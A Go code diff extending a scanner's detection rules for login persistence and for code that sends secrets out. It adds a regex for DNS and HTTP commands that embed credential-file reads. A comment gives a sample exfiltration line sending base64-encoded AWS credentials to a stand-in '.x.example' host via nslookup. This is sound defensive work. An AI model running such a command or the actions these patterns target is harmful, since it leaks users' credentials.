@@ -526,9 +526,12 @@ var readerRules = []clauseRule{
 	{RuleShellInjection, "code that runs a program at login from a hidden or public place",
 		[]string{"currentversion", "launchagents", "@reboot", "\\startup\\", "/autostart/"}, regexp.MustCompile(`(?P<m>(?:currentversion\\+run|currentversion\\run|@reboot|launchagents|\\startup\\|/autostart/)[^\n]{0,200}?(?:\\users\\public\\|\\temp\\|\\appdata\\|/tmp/|/\.[\w-]+/|\\programdata\\)[^\n\s'"]{0,60}\.(?:exe|bat|ps1|vbs|sh|py|bin|dll)|(?:\\users\\public\\|\\temp\\|\\appdata\\|/tmp/|\\programdata\\)[^\n\s'"]{0,60}\.(?:exe|bat|ps1|vbs|dll)[^\n]{0,200}?currentversion\\+run)`),
 		nil},
+	// A secret read inside a command substitution of a network command
+	// ("nslookup $(head -c 60 ~/.aws/credentials | base64).x.example")
+	// goes out in the query itself.
 	{RuleShellInjection, "code that sends secrets or the environment out",
 		[]string{".aws", ".ssh", "id_rsa", "process.env", "os.environ", "getenv", ".env", "printenv", "/etc/shadow", "keychain"},
-		regexp.MustCompile(`(?s)(?P<m>(?:~?/?\.aws\b|~?/?\.ssh\b|id_rsa|process\.env|os\.environ|getenv|\.env\b|printenv|/etc/shadow|keychain).{0,300}?(?:\bcurl\b|\bwget\b|\bnc\b|\bscp\b|https?['"]?\)?\.(?:get|request)|fetch\(|requests\.(?:post|put|get)|urlopen|https?://)|(?:\bcurl\b[^\n]{0,40}(?:-t|-f|-d|--data|--upload-file)|https?['"]?\)?\.(?:get|request)|fetch\(|requests\.(?:post|put)).{0,300}?(?:~?/?\.aws\b|~?/?\.ssh\b|id_rsa|process\.env|os\.environ|/etc/shadow|keychain))`),
+		regexp.MustCompile(`(?s)(?P<m>(?:~?/?\.aws\b|~?/?\.ssh\b|id_rsa|process\.env|os\.environ|getenv|\.env\b|printenv|/etc/shadow|keychain).{0,300}?(?:\bcurl\b|\bwget\b|\bnc\b|\bscp\b|https?['"]?\)?\.(?:get|request)|fetch\(|requests\.(?:post|put|get)|urlopen|https?://)|(?:\bcurl\b[^\n]{0,40}(?:-t|-f|-d|--data|--upload-file)|https?['"]?\)?\.(?:get|request)|fetch\(|requests\.(?:post|put)).{0,300}?(?:~?/?\.aws\b|~?/?\.ssh\b|id_rsa|process\.env|os\.environ|/etc/shadow|keychain)|\b(?:nslookup|dig|host|ping|curl|wget)\s+[^\n]{0,30}?\$\([^)\n]{0,120}?(?:\.aws\b|\.ssh\b|id_rsa|\.env\b|/etc/shadow|credentials|printenv|keychain))`),
 		func(t []byte, s, e int) bool {
 			// Code, not prose about it: a code mark around it.
 			w := t[max(0, s-200):min(len(t), e+200)]
